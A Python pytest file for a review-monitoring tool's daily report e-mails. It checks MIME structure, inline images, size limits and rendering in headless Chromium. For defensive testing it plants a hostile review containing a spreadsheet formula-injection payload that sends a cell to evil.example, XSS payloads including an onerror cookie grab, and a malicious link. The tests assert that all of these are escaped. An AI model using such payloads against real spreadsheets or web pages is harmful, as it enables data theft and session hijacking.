"""The daily e-mail as mail clients get it: the demo day run for real, one hostile review added
to the warehouse, each recipient's version sent through the SMTP sink (customer service's with
its action-list CSV), every .eml parsed back with the stdlib parser and shown in headless
Chromium at phone and desktop width."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path

import pytest
from PIL import Image

from repwatch.attachments import FORMULA_TRIGGERS
from repwatch.config import Config, load_config
from repwatch.mail import MAX_HTML_BYTES, MAX_MESSAGE_BYTES
from repwatch.periods import period_containing
from repwatch.pipeline import run_day, run_report
from repwatch.screenshot import (
    DESKTOP_WIDTH,
    PHONE_WIDTH,
    BrokenImagesError,
    extract_email,
    find_chromium,
    inspect_page,
    screenshot_email,
    screenshot_mailbox,
    unresolved_images,
)
from repwatch.warehouse import connect
from tests.conftest import DEMO_DAY, demo_base_urls, write_config

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund here")'
HOSTILE_TEXT = "退款呢 <script>alert(1)</script> <img src=x onerror=alert(document.cookie)> bad"
HOSTILE_AUTHOR = '<a href="http://evil.example">support</a>'
CUSTOMER_SERVICE = "cs-lead@acme.example"  # demo/repwatch.yaml: gets the action list
needs_chromium = pytest.mark.skipif(
    find_chromium() is None,
    reason="needs Debian's chromium and fonts-noto-cjk: run `make system-deps` "
    "(or apt-get install --no-install-recommends chromium fonts-noto-cjk)",
)


@dataclass
class SentDaily:
    config: Config
    mailbox: Path
    files: list[Path]  # the daily e-mails as the SMTP server stored them
    messages: list[EmailMessage]

    def to(self, address: str) -> EmailMessage:
        (message,) = [m for m in self.messages if m["To"].addresses[0].addr_spec == address]
        return message


def add_hostile_review(config: Config, brand: str) -> None:
    """A copy of the brand's newest review of the day, as a hostile negative one."""
    with connect(config) as con:
        con.execute(
            """
            insert into int_reviews
            select * replace (
                review_id || '-hostile' as review_id,
                $title as title,
                $text as text,
                $author as author,
                'negative' as sentiment,
                published_at + interval 1 second as published_at
            )
            from int_reviews
            where brand = $brand and published_day = $day and published_at is not null
            order by published_at desc
            limit 1
            """,
            {
                "title": HOSTILE_TITLE,
                "text": HOSTILE_TEXT,
                "author": HOSTILE_AUTHOR,
                "brand": brand,
                "day": DEMO_DAY,
            },
        )


@pytest.fixture(scope="module")
def sent_daily(tmp_path_factory) -> SentDaily:
    from repwatch.demo_site.server import serve_in_thread
    from repwatch.smtp_sink import SmtpSink

    tmp_path = tmp_path_factory.mktemp("email-clients")
    with pytest.MonkeyPatch.context() as monkeypatch:
        for name in ("REPWATCH_DATA_DIR", "REPWATCH_SMTP_HOST", "AIRFLOW_CONN_SMTP_DEFAULT"):
            monkeypatch.delenv(name, raising=False)
        with (
            serve_in_thread(port=0, last_day=DEMO_DAY) as site_url,
            SmtpSink(host="127.0.0.1", port=0, out_dir=tmp_path / "mailbox") as sink,
        ):
            config = load_config(
                write_config(
                    tmp_path,
                    crawl={"base_urls": demo_base_urls(site_url), "lookback_days": 14},
                    smtp={"host": "127.0.0.1", "port": sink.port},
                    paths={"data_dir": str(tmp_path / "data")},
                )
            )
            run_day(config, DEMO_DAY, send=False)
            brand = next(brand.name for brand in config.brands if not brand.competitor)
            add_hostile_review(config, brand)
            run_report(config, period_containing("daily", DEMO_DAY), send=True)
            files = [
                path
                for path, message in zip(sink.received, sink.messages(), strict=True)
                if str(message["X-Repwatch-Report"]).startswith("daily/")
            ]
            messages = sink.messages("daily")
    assert len(messages) == len(config.reports.daily.recipients) >= 2
    return SentDaily(config, tmp_path / "mailbox", files, messages)


class Tags(HTMLParser):
    """Every start tag with its attributes, and the text outside tags."""

    def __init__(self, page: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag

    def handle_data(self, data):
        self.text.append(data)

    def all(self, tag: str) -> list[dict[str, str | None]]:
        return [attrs for name, attrs in self.tags if name == tag]


def html_of(message: EmailMessage) -> str:
    return message.get_body(preferencelist=("html",)).get_content()


def test_structure_text_first_then_html_with_its_images(sent_daily):
    for message in sent_daily.messages:
        if message.get_content_type() == "multipart/mixed":
            alternative, *attachments = message.get_payload()
        else:
            alternative, attachments = message, []
        assert alternative.get_content_type() == "multipart/alternative"
        plain, related = alternative.get_payload()
        assert plain.get_content_type() == "text/plain"
        assert related.get_content_type() == "multipart/related"
        html_part, *images = related.get_payload()
        assert html_part.get_content_type() == "text/html"
        assert images and all(part.get_content_type() == "image/png" for part in images)
        for image in images:
            assert image.get_content_disposition() == "inline"
            assert image.get_filename().endswith(".png")
            assert image.get_content().startswith(b"\x89PNG\r\n\x1a\n")
        for attachment in attachments:
            assert attachment.get_content_type() == "text/csv"
            assert attachment.get_content_disposition() == "attachment"
            assert attachment.get_filename().endswith(".csv")
    # Customer service's version carries the action list.
    assert len(list(sent_daily.to(CUSTOMER_SERVICE).iter_attachments())) == 1


def test_every_image_is_a_cid_png_part_with_size_and_alt_text(sent_daily):
    for message in sent_daily.messages:
        parts = {
            part["Content-ID"].strip("<>"): part
            for part in message.walk()
            if part.get_content_type() == "image/png"
        }
        images = Tags(html_of(message)).all("img")
        assert images
        for image in images:
            assert image["src"].startswith("cid:")
            assert image["src"][4:] in parts
            assert re.fullmatch(r"[1-9]\d*", image.get("width") or "")
            assert re.fullmatch(r"[1-9]\d*", image.get("height") or "")
            assert (image.get("alt") or "").strip()
        assert {image["src"][4:] for image in images} == set(parts)
        assert unresolved_images(message) == []


def test_css_is_inlined(sent_daily):
    for message in sent_daily.messages:
        page = html_of(message)
        tags = Tags(page)
        assert tags.all("link") == []
        styled = [attrs for _tag, attrs in tags.tags if attrs.get("style")]
        assert len(styled) >= 20
        # Only the @media rules stay in a <style>, in the head; the body relies on style="".
        body = page.split("<body", 1)[1]
        assert "<style" not in body


def test_sizes_are_within_what_clients_show(sent_daily, record_property):
    for path, message in zip(sent_daily.files, sent_daily.messages, strict=True):
        html_bytes = len(html_of(message).encode("utf-8"))
        message_bytes = path.stat().st_size
        record_property("html_part_bytes", html_bytes)
        record_property("message_bytes", message_bytes)
        print(f"{path.name}: HTML part {html_bytes:,} bytes, message {message_bytes:,} bytes")
        assert html_bytes <= MAX_HTML_BYTES
        assert message_bytes <= MAX_MESSAGE_BYTES


def test_hostile_review_is_text_in_the_html(sent_daily):
    for message in sent_daily.messages:
        tags = Tags(html_of(message))
        assert tags.all("script") == []
        assert not any(key.startswith("on") for _tag, attrs in tags.tags for key in attrs)
        assert all(image["src"] != "x" for image in tags.all("img"))
        assert not any(a.get("href") == "http://evil.example" for a in tags.all("a"))
    # Customer service's version lists the day's new negative reviews, the hostile one first.
    message = sent_daily.to(CUSTOMER_SERVICE)
    page = html_of(message)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(document.cookie)&gt;" in page
    # The reader sees exactly what the reviewer wrote.
    shown = "".join(Tags(page).text)
    assert HOSTILE_TEXT in shown and HOSTILE_AUTHOR in shown
    assert HOSTILE_TEXT in message.get_body(preferencelist=("plain",)).get_content()


def test_action_list_csv_opens_with_formulas_neutralised(sent_daily):
    (attachment,) = sent_daily.to(CUSTOMER_SERVICE).iter_attachments()
    content = attachment.get_payload(decode=True)
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel reads it as UTF-8
    header, *rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert rows and all(len(row) == len(header) for row in rows)
    (hostile,) = [row for row in rows if "'" + HOSTILE_TITLE in row]
    assert HOSTILE_TEXT in hostile and HOSTILE_AUTHOR in hostile
    assert any(re.search(r"[\u4e00-\u9fff]", cell) for row in rows for cell in row)
    for row in [header, *rows]:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS), cell


def is_blank(png: Path) -> bool:
    with Image.open(png) as image:
        return image.convert("RGB").getcolors(maxcolors=1) is not None


@needs_chromium
@pytest.mark.parametrize("width", [PHONE_WIDTH, DESKTOP_WIDTH])
def test_screenshot_shows_every_image(sent_daily, tmp_path, width, record_property):
    for number, message in enumerate(sent_daily.messages):
        out_png = screenshot_email(message, tmp_path / f"daily-{number}-{width}.png", width=width)
        with Image.open(out_png) as image:
            assert image.format == "PNG"
            assert image.width == width
            assert image.height > 1000  # the whole report, not one window of it
        assert not is_blank(out_png)
        page = inspect_page(
            extract_email(message, tmp_path / f"page-{number}").html_path, width=width
        )
        assert page.broken_images == []
        assert page.images == len(Tags(html_of(message)).all("img")) >= 1
        record_property(f"page_{number}_at_{width}px", f"{page.content_width}x{page.height}")
        print(f"{message['To']} at {width}px: page {page.content_width}x{page.height} px")


@needs_chromium
def test_screenshot_mailbox_names_one_png_per_message_and_width(sent_daily, tmp_path):
    shots = screenshot_mailbox(sent_daily.mailbox, tmp_path / "shots", widths=(PHONE_WIDTH,))
    assert shots == [
        tmp_path / "shots" / f"{path.stem}-{PHONE_WIDTH}px.png"
        for path in sorted(sent_daily.mailbox.glob("*.eml"))
    ]
    assert all(path.exists() and not is_blank(path) for path in shots)


@needs_chromium
def test_broken_images_are_found_before_and_in_the_browser(sent_daily, tmp_path):
    message = sent_daily.messages[0]
    page = html_of(message)
    (first_cid,) = re.findall(r'src="cid:([^"]+)"', page)[:1]
    broken_page = page.replace(f"cid:{first_cid}", "cid:not-in-the-message@repwatch", 1).replace(
        "</body>", '<img src="https://example.com/tracker.png" width="1" height="1" alt=""></body>'
    )
    broken = EmailMessage()
    broken.set_content("text")
    broken.add_alternative(broken_page, subtype="html")
    for part in message.walk():
        if part.get_content_type() == "image/png":
            broken.get_payload()[1].add_related(
                part.get_content(),
                maintype="image",
                subtype="png",
                cid=part["Content-ID"],
                disposition="inline",
            )
    expected = ["cid:not-in-the-message@repwatch", "https://example.com/tracker.png"]
    assert unresolved_images(broken) == expected
    extracted = extract_email(broken, tmp_path / "page")
    assert inspect_page(extracted.html_path, width=PHONE_WIDTH).broken_images == expected
    with pytest.raises(BrokenImagesError) as refused:
        screenshot_email(broken, tmp_path / "broken.png", width=PHONE_WIDTH)
    assert list(refused.value.broken.values()) == [expected]
    assert (tmp_path / "broken.png").exists()  # written all the same, to look at


@needs_chromium
def test_every_version_fits_a_phone_without_sideways_scrolling(sent_daily, tmp_path):
    too_wide = {}
    for number, message in enumerate(sent_daily.messages):
        html_path = extract_email(message, tmp_path / f"page-{number}").html_path
        page = inspect_page(html_path, width=PHONE_WIDTH)
        if page.content_width > PHONE_WIDTH:
            too_wide[str(message["To"])] = page.content_width
    assert too_wide == {}
